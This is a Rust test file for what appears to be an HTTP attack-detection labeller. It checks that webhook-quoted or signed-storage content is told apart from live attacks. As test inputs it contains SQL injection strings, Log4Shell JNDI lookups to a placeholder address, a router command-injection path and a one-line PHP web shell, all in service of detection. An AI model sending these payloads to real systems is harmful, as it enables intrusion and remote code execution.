use crate::{Category, Labeller};

const HOOK: &str = "X-Hub-Signature-256: sha256=1";
const SIGNED: &str = "X-Amz-Date: 20250101T000000Z\r\nAuthorization: AWS4-HMAC-SHA256 \
    Credential=AKIA/20250101/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=0";

/// Returns the ids of two lists of attacks: those that a request is, and those that it only quotes.
fn attacks(raw: &str) -> [Vec<String>; 2] {
    let labeller = Labeller::built_in();
    let description = labeller.describe(raw.as_bytes(), None);
    [description.labels, description.quoted].map(|labels| {
        let signatures = labels.iter().map(|label| &label.signature);
        let attacks = [Category::Exploit, Category::Webshell, Category::Secrets];
        let attacks = signatures.filter(|it| attacks.contains(&it.category));
        attacks.map(|it| it.id.clone()).collect()
    })
}

fn post(target: &str, header: &str, body: &str) -> String {
    format!("POST {target} HTTP/1.1\r\nHost: a.example\r\n{header}\r\n\r\n{body}")
}

#[test]
fn what_a_webhook_quotes_is_told_apart() {
    let body = r#"{"text":"try ' OR 1=1 -- or ${jndi:ldap://192.0.2.1/a}"}"#;
    let [said, quoted] = attacks(&post("/hook", HOOK, body));
    assert_eq!(said, [""; 0]);
    assert!(
        quoted.iter().any(|id| id.starts_with("log4shell")),
        "{quoted:?}"
    );
    let [said, quoted] = attacks(&post("/hook", "X-Other: 1", body));
    assert!(!said.is_empty() && quoted.is_empty(), "{said:?} {quoted:?}");
}

#[test]
fn one_header_hides_no_attack_in_target_or_headers() {
    let luci = "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)";
    let jndi = "X-Name: ${jndi:ldap://192.0.2.1/a}";
    for header in [HOOK, SIGNED, "User-Agent: GitHub-Hookshot/0"] {
        let [said, _] = attacks(&post(luci, header, "{}"));
        assert!(said.iter().any(|id| id.contains("archer")), "{said:?}");
        let [said, _] = attacks(&post("/x", &format!("{header}\r\n{jndi}"), "{}"));
        assert!(
            said.iter().any(|id| id.starts_with("log4shell")),
            "{said:?}"
        );
    }
    let [said, _] = attacks(&post("/x?id=1'+OR+1=1--+", HOOK, "{}"));
    assert_ne!(said, [""; 0]);
}

#[test]
fn what_is_stored_under_a_signature_is_quoted() {
    let [said, quoted] = attacks(&post(
        "/bucket/backup/.env",
        SIGNED,
        "<?php system($_GET[1]);",
    ));
    assert_eq!(said, [""; 0]);
    assert!(quoted.len() > 1, "{quoted:?}");
}
